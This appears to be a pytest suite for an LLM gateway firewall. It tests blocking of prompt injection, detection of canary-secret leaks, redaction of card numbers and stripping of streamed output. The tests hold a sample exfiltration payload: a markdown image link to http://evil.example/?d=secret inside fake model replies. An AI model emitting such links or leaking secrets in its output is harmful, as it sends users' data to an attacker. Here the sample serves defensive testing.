"""A gateway built from a workspace folder, with every shipped detector, in this process."""

from __future__ import annotations

import asyncio
import subprocess
import sys
from pathlib import Path

import aiohttp
import pytest
import uvicorn
from fake_upstream import answer, fake_upstream, stream
from processes import BODY, HEADERS, write_policy, write_workspace
from streams import chat, read
from test_sdk_clients import ATTACK, chat_reply

from bartizan.app import build_gateway, default_guard, load_guard
from bartizan.app.gateways import build_in_force
from bartizan.app.guards import Detectors
from bartizan.app.places import committer_of, journal_of
from bartizan.app.vaulting import read_texts
from bartizan.core.errors import BartizanError, ConfigurationError, DocumentError
from bartizan.core.event import RequestAccepted
from bartizan.core.passage import Origin, Passage, Surface
from bartizan.core.verdict import Action
from bartizan.firewall.http_protocol import server_settings
from bartizan.firewall.supervisor import listening_socket
from bartizan.firewall.worker import QuietServer
from bartizan.telemetry.reader import read_journal
from bartizan.trust.vault_keys import create_vault_key
from bartizan.workspace.snapshot import take_snapshot
from bartizan.workspace.workspace import Workspace

MARKER = "canaries: [{name: vault, value: {env: BARTIZAN_TEST_CANARY}}]\n"
CANARY = "zebra-quartz-7719"


async def test_everything_together(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("BARTIZAN_TEST_CANARY", CANARY)
    root = tmp_path / "ws"
    async with fake_upstream(answer(chat_reply("hello"))) as upstream:
        write_workspace(root, upstream, MARKER + "content: {keep: text}\n")
        workspace = Workspace(root)
        gateway = build_gateway(workspace)
        listener = listening_socket("127.0.0.1", 0)
        server = QuietServer(uvicorn.Config(gateway, **server_settings()))
        serving = asyncio.create_task(server.serve(sockets=[listener]))
        await server.serving.wait()
        url = f"http://127.0.0.1:{listener.getsockname()[1]}/v1/chat/completions"
        async with aiohttp.ClientSession(headers=HEADERS) as client:

            async def ask(**fields: object) -> tuple[str, str, str]:
                async with client.post(url, json=BODY | fields) as reply:
                    text = await reply.text()
                    return reply.headers["x-bartizan-verdict"], reply.headers["x-bartizan-rule"], text

            mail = "my card is 4111 1111 1111 1111"
            assert (await ask(messages=[{"role": "user", "content": mail}]))[0] == "allow"
            assert (await ask(messages=[{"role": "user", "content": ATTACK}]))[:2] == ("block", "user.prompt_injection")
            upstream.default = answer(chat_reply(f"The marker is {CANARY.upper()}."))
            verdict, rule, text = await ask()
            assert (verdict, rule) == ("block", "output.canary")
            assert "quartz" not in text.casefold()  # the digits alone may stand in an id
            upstream.default = stream([chat(["It is zebra-", "quartz-77", "19, and ![x](http://evil.example/?d=1)"])])
            _, _, text = await ask(stream=True)
            said = read(text.encode())
            assert said.text == "It is "
            assert said.error
            upstream.default = stream([chat(["Look: ![x](http://evil", ".example/?d=secret) ok"])])
            _, _, text = await ask(stream=True)
            assert "evil.example" not in text
            assert read(text.encode()).complete
        server.should_exit = True
        await serving
        await gateway.close()
    kept = [event for event in read_journal(journal_of(workspace)) if isinstance(event, RequestAccepted)]
    assert "4111 1111" not in kept[0].content[0].text
    assert kept[0].content[0].text.startswith("my card is")


async def test_texts_go_redacted_to_the_vault_where_policy_wants_it(tmp_path: Path) -> None:
    root = tmp_path / "ws"
    create_vault_key(tmp_path / "keys")
    async with fake_upstream(answer(chat_reply("hello"))) as upstream:
        write_workspace(root, upstream, "content: {keep: vault}\n")
        deployment = root / "bartizan.yaml"
        text = deployment.read_text()
        deployment.write_text(text.replace("fsync}", f"fsync, vault: {{keys: {tmp_path}/keys}}}}"))
        workspace = Workspace(root)
        gateway = build_gateway(workspace)
        listener = listening_socket("127.0.0.1", 0)
        server = QuietServer(uvicorn.Config(gateway, **server_settings()))
        serving = asyncio.create_task(server.serve(sockets=[listener]))
        await server.serving.wait()
        async with aiohttp.ClientSession(headers=HEADERS) as client:
            url = f"http://127.0.0.1:{listener.getsockname()[1]}/v1/chat/completions"
            message = {"role": "user", "content": f"{ATTACK} My card is 4111 1111 1111 1111."}
            async with client.post(url, json=BODY | {"messages": [message]}) as reply:
                request = reply.headers["x-request-id"]
        server.should_exit = True
        await serving
        await gateway.close()
    (one,) = await asyncio.to_thread(read_texts, workspace, request, "incident 4711", None)
    assert one.kind == "request.refused"
    assert one.text.startswith(ATTACK)
    assert "4111" not in one.text
    (root / "bartizan.yaml").write_text(text)
    with pytest.raises(ConfigurationError, match=r"has no journal\.vault"):
        build_gateway(Workspace(root))


def test_guards_are_the_same_from_a_workspace_and_by_default(tmp_path: Path) -> None:
    (tmp_path / "policy.yaml").write_text("version: 1\n")
    passage = Passage(ATTACK, Origin.USER, (Surface.USER,))
    for guard in (load_guard(tmp_path), default_guard()):
        assert guard.inspect_passages([passage]).action is Action.BLOCK


def test_detectors_are_kept_over_a_reload(tmp_path: Path) -> None:
    (tmp_path / "policy.yaml").write_text("version: 1\n")
    workspace, kept = Workspace(tmp_path), Detectors()
    committer = committer_of(workspace)
    build_in_force(workspace, take_snapshot(tmp_path), committer, kept)
    before = kept.signatures({}, ())
    write_policy(tmp_path)
    in_force = build_in_force(workspace, take_snapshot(tmp_path, 2), committer, kept)
    assert kept.signatures({}, ()) is before
    assert in_force.version == 2
    assert kept.signatures({}, ("some",)) is not before


@pytest.mark.parametrize(
    ("deployment", "policy", "error"),
    [
        ("version: 1\n", "version: 1\n", ConfigurationError),
        ("version: 1\nupstreams: [{name: a, url: 'http://a', protocol: smtp}]\n", "version: 1\n", DocumentError),
        (
            "version: 1\nupstreams: [{name: a, url: 'http://a', protocol: openai}, "
            "{name: a, url: 'http://b', protocol: openai}]\n",
            "version: 1\n",
            BartizanError,
        ),
        (
            "version: 1\nupstreams: [{name: a, url: 'http://a', protocol: openai, key: {env: BARTIZAN_NO_SUCH}}]\n",
            "version: 1\n",
            ConfigurationError,
        ),
        (
            "version: 1\nupstreams: [{name: a, url: 'http://a', protocol: openai}]\n",
            "version: 1\ncanaries: [{name: c, value: {env: BARTIZAN_NO_SUCH}}]\n",
            ConfigurationError,
        ),
        ("version: 1\nupstreams: [{name: a, url: 'http://a', protocol: openai}]\n", None, ConfigurationError),
    ],
)
def test_workspaces_that_cannot_serve(
    tmp_path: Path, deployment: str, policy: str | None, error: type[Exception]
) -> None:
    (tmp_path / "bartizan.yaml").write_text(deployment)
    if policy is not None:
        (tmp_path / "policy.yaml").write_text(policy)
    with pytest.raises(error):
        build_gateway(Workspace(tmp_path))


def test_workers_carry_no_library_that_other_processes_are_there_for() -> None:
    heavy = ("cedarpy", "cryptography", "duckdb", "numpy", "onnxruntime", "sqlalchemy", "typer")
    asked = (
        "import sys, bartizan.app.workers; from bartizan.agents import open_guard;"
        "from bartizan.inspection.inspector import Inspector; open_guard('balanced', {}, Inspector([]));"
        f"print(*[name for name in {heavy} if name in sys.modules])"
    )
    found = subprocess.run([sys.executable, "-c", asked], stdout=subprocess.PIPE, text=True, check=True)
    assert not found.stdout.split(), "each of these costs every worker megabytes"
